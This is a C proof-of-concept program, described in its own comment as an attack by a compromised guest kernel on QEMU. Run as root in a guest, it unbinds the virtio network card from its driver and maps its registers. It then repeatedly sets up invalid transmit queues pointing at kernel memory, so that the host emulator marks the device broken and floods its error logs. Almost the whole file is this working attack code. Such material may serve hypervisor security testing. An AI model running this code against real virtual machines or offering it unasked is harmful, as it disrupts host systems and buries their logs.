/* Attack of a compromised guest kernel on QEMU: makes it log errors, again and again.
 *
 *     noisy TIMES     unbinds the network card from its driver, and sets up invalid queues
 *
 * Prints how many times QEMU has processed that. Runs as root.
 */

#include <fcntl.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { STATUS = 0x14, SELECT = 0x16, ENABLE = 0x1c, TABLE = 0x20, DRIVER = 0x28, DEVICE = 0x30 };
enum { FEATURES_SELECT = 0x08, FEATURES = 0x0c, NOTIFY = 0x3000, NOTIFY_STEP = 4, SIZE = 0x4000 };
enum { BEGUN = 3, AGREED = 8, READY = 4, BROKEN = 0x40, MODERN = 1, SENDING = 1 };
enum { COMMAND = 4, MEMORY_AND_MASTER = 6, PATIENCE = 100000 };
#define SOMETHING 0x1000000u /* where the kernel's code is */

static volatile uint8_t *card;

static void put8(int at, uint8_t value) { card[at] = value; }
static void put16(int at, uint16_t value) { *(volatile uint16_t *)(card + at) = value; }
static void put32(int at, uint32_t value) { *(volatile uint32_t *)(card + at) = value; }

static int write_to(const char *path, const void *data, size_t size, off_t at)
{
    int file = open(path, O_WRONLY);
    int done = file >= 0 && pwrite(file, data, size, at) == (ssize_t)size;
    close(file);
    return done;
}

static int take_card(void)
{
    char place[PATH_MAX], path[PATH_MAX + 32];
    uint16_t command = MEMORY_AND_MASTER;
    if (!realpath("/sys/class/net/eth0/device/..", place))
        return 0;
    const char *address = strrchr(place, '/') + 1;
    snprintf(path, sizeof path, "%s/driver/unbind", place);
    if (!write_to(path, address, strlen(address), 0))
        return 0;
    snprintf(path, sizeof path, "%s/config", place);
    if (!write_to(path, &command, sizeof command, COMMAND))
        return 0;
    snprintf(path, sizeof path, "%s/resource4", place);
    int file = open(path, O_RDWR | O_SYNC);
    card = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    return card != MAP_FAILED;
}

static int is_broken(void)
{
    put8(STATUS, 0);
    put8(STATUS, BEGUN);
    put32(FEATURES_SELECT, 1);
    put32(FEATURES, MODERN);
    put8(STATUS, BEGUN | AGREED);
    put16(SELECT, SENDING);
    for (int part = TABLE; part <= DEVICE; part += DRIVER - TABLE) {
        put32(part, SOMETHING);
        put32(part + 4, 0);
    }
    put16(ENABLE, 1);
    put8(STATUS, BEGUN | AGREED | READY);
    put16(NOTIFY + SENDING * NOTIFY_STEP, SENDING);
    for (int i = 0; i < PATIENCE; i++)
        if (card[STATUS] & BROKEN)
            return 1;
    return 0;
}

int main(int count, char **words)
{
    if (count < 2 || !take_card())
        return 2;
    int seen = 0;
    for (int i = atoi(words[1]); i; i--)
        seen += is_broken();
    printf("%d\n", seen);
    return 0;
}
